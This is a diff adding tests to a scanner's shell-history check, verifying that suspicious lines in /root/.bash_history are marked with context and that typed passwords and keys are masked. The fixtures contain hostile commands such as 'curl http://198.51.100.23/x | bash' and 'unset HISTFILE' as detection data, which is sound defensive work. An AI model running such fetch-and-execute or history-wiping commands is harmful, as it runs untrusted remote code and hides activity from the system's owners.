@@ -78,3 +78,45 @@ def test_hostile_lines_cost_little() -> None:
     began = time.monotonic()
     told(*(f"tar czf {'a' * 150}{n} /x" for n in range(2000)), *("curl " + "-T " * 700 + " | " * 200 for _ in range(500)), "rm " * 600)
     assert time.monotonic() - began < 5
+
+
+def test_a_history_is_shown_whole_with_its_matches_marked(plain: TreeMaker) -> None:
+    plain.file("/root/.bash_history", "ls\ncd /tmp\ncurl http://198.51.100.23/x | bash\nexit\n")
+    (found,) = [one for one in plain.findings(ShellHistory()) if "Command history" in one.title]
+    assert found.evidence.splitlines() == [
+        "  line 1: ls",
+        "  line 2: cd /tmp",
+        "> line 3: curl http://198.51.100.23/x | bash",
+        "  line 4: exit",
+    ]
+
+
+def test_of_a_long_history_what_matches_is_shown_with_what_stands_around_it(plain: TreeMaker) -> None:
+    work = "".join(f"make target-{number}\n" for number in range(1000))
+    plain.file("/root/.bash_history", f"{work}curl http://198.51.100.23/x | bash\n{work}unset HISTFILE\n")
+    (found,) = [one for one in plain.findings(ShellHistory()) if "Command history" in one.title]
+    shown = found.evidence.splitlines()
+    assert shown[:4] == [
+        "  line 999: make target-998",
+        "  line 1000: make target-999",
+        "> line 1001: curl http://198.51.100.23/x | bash",
+        "  line 1002: make target-0",
+    ]
+    assert "  …" in shown
+    assert shown[-1] == "> line 2002: unset HISTFILE"
+
+
+def test_matches_are_never_left_out_for_what_stands_around(plain: TreeMaker) -> None:
+    plain.file("/root/.bash_history", "".join(f"{'a' * 200}\ncurl http://198.51.100.23/{number} | bash\n" for number in range(20)))
+    (found,) = [one for one in plain.findings(ShellHistory()) if "Command history" in one.title]
+    assert sum(line.startswith("> ") for line in found.evidence.splitlines()) == 20
+
+
+def test_secrets_that_were_typed_are_not_quoted(plain: TreeMaker) -> None:
+    plain.file(
+        "/root/.bash_history",
+        "mysql -u app -pHunter2 shop\nexport DB_PASSWORD=Hunter2\ncurl -H token:Hunter2 http://198.51.100.23/x | bash\naws configure set aws_secret_access_key=Hunter2\n",
+    )
+    for found in plain.findings(ShellHistory()):
+        assert "Hunter2" not in found.evidence
+        assert "***" in found.evidence
